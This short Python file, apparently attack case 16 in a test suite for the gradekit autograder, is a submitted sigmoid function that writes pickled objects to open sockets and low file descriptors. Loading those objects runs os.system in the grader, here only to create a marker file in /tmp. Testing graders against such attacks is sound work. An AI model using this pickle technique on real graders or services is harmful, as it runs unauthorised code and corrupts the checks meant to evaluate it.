# Attack 16: a pickle whose loading runs a command in the grader
import gc
import os
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/gradekit-attack-pickle",)


def sigmoid(z):
    channels = [thing.fileno() for thing in gc.get_objects() if type(thing).__name__ == "socket"]
    for number in [*channels, *range(3, 16)]:
        try:
            os.write(number, pickle.dumps(Bomb()))
        except OSError:
            continue
    return Bomb()
